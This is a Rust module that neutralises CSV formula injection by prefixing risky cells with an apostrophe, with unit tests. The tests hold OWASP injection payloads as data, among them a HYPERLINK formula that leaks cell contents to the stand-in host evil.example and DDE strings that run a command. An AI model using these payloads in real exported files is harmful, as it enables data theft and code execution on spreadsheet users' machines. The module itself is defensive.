//! CSV 公式注入防护 — every CSV the app writes passes its cells through [`safe`], so a
//! title or a name that begins like a formula (`=HYPERLINK(…)`, `+cmd|…`, `-2+3`, `@SUM(…)`)
//! opens in Excel or WPS as the text it is, never as a formula (OWASP, "CSV Injection").

use std::borrow::Cow;

/// The cell as written: prefixed with `'` when it begins with `=`, `+`, `-`, `@`, a tab or
/// a carriage return (the characters spreadsheet programs read as the start of a formula).
/// Quoting of separators and quotes is the CSV writer's job.
pub fn safe(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A record's cells through [`safe`].
pub fn record<'a, I, S>(cells: I) -> Vec<String>
where
    I: IntoIterator<Item = &'a S>,
    S: AsRef<str> + 'a + ?Sized,
{
    cells
        .into_iter()
        .map(|c| safe(c.as_ref()).into_owned())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The vectors of the OWASP CSV Injection page, and their neighbours.
    #[test]
    fn formula_starts_are_neutralised_and_other_text_is_kept() {
        for v in [
            "=1+2",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"点击\")",
            "+1+2",
            "-1+2",
            "@SUM(1+2)",
            "=cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
        ] {
            assert_eq!(safe(v), format!("'{v}"), "{v:?}");
        }
        for v in [
            "关于=的通知",
            "2026-11-27",
            "11210300MB0000000X/2026-00001",
            "",
            "'已有引号",
        ] {
            assert_eq!(safe(v), v);
        }
    }
}
